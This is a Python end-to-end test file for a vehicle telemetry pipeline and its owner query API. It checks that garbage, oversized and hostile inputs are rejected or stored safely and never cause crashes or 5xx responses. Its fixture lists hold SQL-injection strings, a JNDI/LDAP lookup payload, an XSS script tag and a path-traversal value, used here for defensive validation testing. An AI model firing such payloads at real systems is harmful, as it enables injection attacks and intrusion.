"""Bad input at the edges: garbage, hostile strings and near-maximum messages on
`telemetry.raw`, and hostile requests to the query service. Nothing crashes, every record
is accounted for: dead-lettered with the reason (and signal) it was built to get, or stored;
hostile free text that passes validation is stored and served to its owner byte for byte;
requests of a real owner of a real car get the 4xx problem+json of the check they aim at."""

from __future__ import annotations

import random
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
from clickhouse_connect.driver.client import Client
from confluent_kafka import Producer

from producers.sim.fleet import OwnershipPeriod, ownership_records
from producers.sim.signals import frame_record
from schemas.codec import MARKER, ownership_codec, telemetry_codec
from schemas.errors import ReasonCode
from tests.e2e.harness import owner_headers, query_server
from tests.integration.test_pipeline_harness import Setup, healthz, wait_until, worker

GOOD_VIN = "LRW8ARLD7GD186641"  # a valid ISO 3779 VIN (check digit 7)
OWNER = "owner-bad-input"  # owns GOOD_VIN from a day ago: every stored sample is theirs
FREE_TEXT = "Vehicle.Diagnostics.SoftwareVersion"  # the catalog's free-text signal
DTC = "Vehicle.Diagnostics.DTCList"  # a string signal with a pattern
HOSTILE = [
    "'; DROP TABLE samples; --",
    "x' OR '1'='1",
    "\x00\x00nul\x00",
    "车辆数据 🚗 \u202e\u200b",
    "{sql:String}",
    "A" * 100_000,
    'back\\slash \\" "quotes" \\u0000 \\n %s %n ${jndi:ldap://x/a}',
    "<script>alert('x')</script>&amp;",
    "tab\tinside",
    "trailing newline\n",
    "next line \u0085 (C1)",
    "B" * 256,
    "P0420\n",
]
# What the catalog's free-text pattern lets through, decided here rather than computed
# from the catalog: printable text of 1 to 256 characters, format characters (U+202E,
# U+200B) included, stored as sent; control characters (C0, DEL, C1) and longer text
# rejected with a reason.
STORED_TEXT = {HOSTILE[i] for i in (0, 1, 3, 4, 6, 7, 11)}
# The broker's and librdkafka's default message.max.bytes is 1,000,000+; stay just under.
NEAR_MAX = 900_000


@dataclass(frozen=True)
class Case:
    """One message and what the pipeline must make of it: the dead letters it gets as
    (reason, signal or "" for the whole record), and the free text it stores."""

    key: bytes
    value: bytes
    dead: frozenset[tuple[str, str]] = frozenset()
    text: str | None = None


def _frame(vin: str, seq: int, **maps: dict[str, Any]) -> dict[str, Any]:
    now = int(time.time() * 1000)
    groups = tuple(maps.get(g, {}) for g in ("doubles", "longs", "booleans", "strings"))
    return frame_record(vin, seq, now, "fw-1", groups)  # type: ignore[arg-type]


def _dead(reason: ReasonCode, signal: str = "") -> frozenset[tuple[str, str]]:
    return frozenset({(reason.value, signal)})


def _cases() -> list[Case]:
    """Random and truncated bytes, hostile VINs, signal names and values, near-max frames."""
    rng = random.Random(7)
    codec = telemetry_codec()
    good = codec.encode(_frame(GOOD_VIN, 1, doubles={"Vehicle.Speed": 50.0}))
    vin = GOOD_VIN.encode()
    out = []
    for _ in range(30):
        value = bytes([rng.randrange(MARKER[0])]) + rng.randbytes(rng.randint(0, 299))
        out.append(Case(rng.randbytes(rng.randint(0, 40)), value, _dead(ReasonCode.BAD_MARKER)))
    out += [
        Case(vin, good[:cut], _dead(ReasonCode.TRUNCATED)) for cut in (1, 2, 5, 10, len(good) - 1)
    ]
    seq = 10
    for text in HOSTILE:
        seq += 1
        hostile_vin = codec.encode(_frame(text, seq))
        out.append(Case(text.encode(), hostile_vin, _dead(ReasonCode.INVALID_VIN)))
        named = codec.encode(_frame(GOOD_VIN, seq, strings={text: "x"}))
        out.append(Case(vin, named, _dead(ReasonCode.UNKNOWN_SIGNAL, text)))
        seq += 1
        dtc = codec.encode(_frame(GOOD_VIN, seq, strings={DTC: text}))
        out.append(Case(vin, dtc, _dead(ReasonCode.OUT_OF_RANGE, DTC)))
        seq += 1
        free = codec.encode(_frame(GOOD_VIN, seq, strings={FREE_TEXT: text}))
        if text in STORED_TEXT:
            out.append(Case(vin, free, text=text))
        else:
            out.append(Case(vin, free, _dead(ReasonCode.OUT_OF_RANGE, FREE_TEXT)))
    big = "Z" * NEAR_MAX
    for n, (name, value) in enumerate(((big[:200], big), (DTC, big), (FREE_TEXT, big))):
        message = codec.encode(_frame(GOOD_VIN, 100 + n, strings={name: value}))
        reason = ReasonCode.UNKNOWN_SIGNAL if n == 0 else ReasonCode.OUT_OF_RANGE
        out.append(Case(vin, message, _dead(reason, name)))
    return out


def _accounted(client: Client, topic: str) -> set[int]:
    rows = client.query(
        "SELECT source_offset FROM dead_letters FINAL WHERE source_topic = {t:String} "
        "UNION DISTINCT SELECT source_offset FROM samples FINAL WHERE source_topic = {t:String}",
        parameters={"t": topic},
    ).result_rows
    return {int(r[0]) for r in rows}


def _announce_owner(setup: Setup) -> None:
    """OWNER's delivery of GOOD_VIN a day ago, on the ownership topic, before any frame."""
    since = int(time.time() * 1000) - 86_400_000
    record = ownership_records(GOOD_VIN, [OwnershipPeriod(OWNER, "delivered", since)])[-1]
    producer = Producer({"bootstrap.servers": setup.bootstrap})
    producer.produce(setup.ownership, ownership_codec().encode(record), GOOD_VIN.encode())
    assert producer.flush(30) == 0


def _owned(client: Client) -> bool:
    rows = client.query(
        "SELECT count() FROM ownership_intervals FINAL "
        "WHERE vin = {v:String} AND owner_id = {o:String}",
        parameters={"v": GOOD_VIN, "o": OWNER},
    ).result_rows
    return bool(rows[0][0])


def _served_texts(base: str) -> list[str]:
    """Every FREE_TEXT value the owner API serves OWNER, as JSON decoded, page by page."""
    now = time.time()
    span = {
        "from": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now - 3600)),
        "to": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now + 3600)),
    }
    texts: list[str] = []
    cursor = None
    while True:
        params = span | {"signal": FREE_TEXT, "page_size": "1000"}
        if cursor:
            params["cursor"] = cursor
        url = f"{base}/v1/vehicles/{GOOD_VIN}/series"
        r = httpx.get(url, params=params, headers=owner_headers(OWNER), timeout=30)
        assert r.status_code == 200, r.text[:500]
        body = r.json()
        texts += [row["text"] for row in body["rows"]]
        cursor = body["next_cursor"]
        if not cursor:
            return texts


def test_garbage_hostile_and_near_max_records_are_all_accounted_for_and_the_worker_lives(
    pipeline: Callable[..., Setup],
    clickhouse_client: Client,
    tmp_path: Path,
) -> None:
    setup = pipeline(raw_partitions=1)
    _announce_owner(setup)
    cases = _cases()
    producer = Producer({"bootstrap.servers": setup.bootstrap, "message.max.bytes": 1_000_000})
    for case in cases:
        producer.produce(setup.raw, value=case.value, key=case.key)
        producer.poll(0)
    assert producer.flush(30) == 0
    log = tmp_path / "worker.log"
    with worker(setup, log) as proc:
        wait_until(
            lambda: (
                len(_accounted(clickhouse_client, setup.raw)) >= len(cases)
                or proc.poll() is not None
            ),
            90,
            lambda: (
                f"{len(cases)} records accounted for, have "
                f"{len(_accounted(clickhouse_client, setup.raw))}; log:\n{log.read_text()[-3000:]}"
            ),
        )
        assert proc.poll() is None, f"worker died; log:\n{log.read_text()[-3000:]}"
        port = proc.web_port  # type: ignore[attr-defined]
        assert healthz(port)["status"] == "ok"
    assert _accounted(clickhouse_client, setup.raw) == set(range(len(cases)))
    # Each dead letter has the reason (and signal) its message was built to get.
    rows = clickhouse_client.query(
        "SELECT source_offset, reason, signal FROM dead_letters FINAL "
        "WHERE source_topic = {t:String}",
        parameters={"t": setup.raw},
    ).result_rows
    got: dict[int, set[tuple[str, str]]] = {}
    for offset, reason, signal in rows:
        got.setdefault(int(offset), set()).add((reason, signal))
    want = {offset: set(case.dead) for offset, case in enumerate(cases) if case.dead}
    assert got == want
    # Hostile text that passed validation is stored as sent, under its owner, and not empty.
    stored = clickhouse_client.query(
        "SELECT source_offset, owner_id, value_str FROM samples FINAL WHERE signal = {s:String}",
        parameters={"s": FREE_TEXT},
    ).result_rows
    texts = {offset: case.text for offset, case in enumerate(cases) if case.text is not None}
    assert len(texts) == len(STORED_TEXT) > 0
    assert {int(o): v for o, _, v in stored} == texts
    assert {owner for _, owner, _ in stored} == {OWNER}
    with query_server(setup, tmp_path / "serve.log") as base:
        assert sorted(_served_texts(base)) == sorted(texts.values())


# (path, parameters, status, problem type): the parameter each case is aimed at is the only
# bad one, so the answer names it.
SPAN = {"from": "2026-01-01", "to": "2026-01-02"}
BAD_PARAMS: list[tuple[str, dict[str, Any], int, str]] = [
    ("/v1/vehicles/'; DROP TABLE samples; --/coverage", {}, 400, "invalid-vin"),
    ("/v1/vehicles/" + "x" * 5000 + "/coverage", {}, 422, "validation-error"),
    ("/v1/vehicles/车辆/coverage", {}, 400, "invalid-vin"),
    (
        "/v1/vehicles/{vin}/series",
        {"from": "2026-13-45", "to": "' OR 1=1"},
        422,
        "validation-error",
    ),
    (
        "/v1/vehicles/{vin}/series",
        {"from": "2026-01-02", "to": "2026-01-01"},
        400,
        "invalid-time-range",
    ),
    (
        "/v1/vehicles/{vin}/series",
        {"from": "1970-01-01", "to": "2299-01-01"},
        400,
        "time-range-too-long",
    ),
    ("/v1/vehicles/{vin}/series", SPAN | {"signal": "a'b"}, 400, "unknown-signal"),
    ("/v1/vehicles/{vin}/series", SPAN | {"category": "x'--"}, 400, "unknown-category"),
    ("/v1/vehicles/{vin}/series", SPAN | {"page_size": "-1"}, 400, "invalid-page-size"),
    ("/v1/vehicles/{vin}/series", SPAN | {"page_size": "9" * 30}, 400, "page-size-too-large"),
    ("/v1/vehicles/{vin}/series", SPAN | {"cursor": "\x00'"}, 400, "invalid-cursor"),
    ("/v1/vehicles/{vin}/series", SPAN | {"resolution": "0"}, 422, "validation-error"),
    (
        "/v1/vehicles/{vin}/series",
        {"from": "2026-01-01", "to": "2026-02-28", "resolution": "1"},
        400,
        "resolution-too-fine",
    ),
    ("/v1/vehicles/{vin}/export", SPAN | {"format": "../x"}, 400, "unsupported-format"),
    ("/v1/vehicles/{vin}/incident-report", {"at": "yesterday"}, 422, "validation-error"),
    (
        "/v1/vehicles/{vin}/incident-report",
        {"at": "2026-01-01", "before_minutes": "9" * 12},
        400,
        "invalid-time-range",
    ),
    ("/v1/access-log", {"from": "\x00", "page_size": "0"}, 422, "validation-error"),
]


def test_hostile_requests_get_clear_4xx_problems_and_never_a_5xx(
    pipeline: Callable[..., Setup],
    clickhouse_client: Client,
    tmp_path: Path,
) -> None:
    """As the real owner of a real car (its ownership stored by a real worker), so every
    case gets past the ownership check to the validation it is aimed at."""
    setup = pipeline()
    _announce_owner(setup)
    log = tmp_path / "worker.log"
    with worker(setup, log):
        wait_until(lambda: _owned(clickhouse_client), 60, lambda: log.read_text()[-3000:])
    owner = owner_headers(OWNER)
    with query_server(setup, tmp_path / "serve.log") as base:
        assert (
            httpx.get(f"{base}/v1/vehicles/{GOOD_VIN}/coverage", headers=owner).status_code == 200
        )
        for path, params, status, slug in BAD_PARAMS:
            r = httpx.get(base + path.format(vin=GOOD_VIN), params=params, headers=owner)
            assert r.status_code == status, (path, params, r.status_code, r.text[:300])
            assert r.headers["content-type"].startswith("application/problem+json"), path
            assert r.json()["status"] == status
            assert r.json()["type"] == f"/problems/{slug}", (path, params, r.text[:300])
        for header in (
            "Bearer a.b.c",
            "Bearer ' OR 1=1 --",
            "Bearer " + "a" * 20_000,
            "Basic Zm9vOmJhcg==",
        ):
            r = httpx.get(f"{base}/v1/vehicles", headers={"Authorization": header})
            assert r.status_code == 401, (header[:20], r.status_code)
        assert httpx.get(f"{base}/readyz").status_code == 200
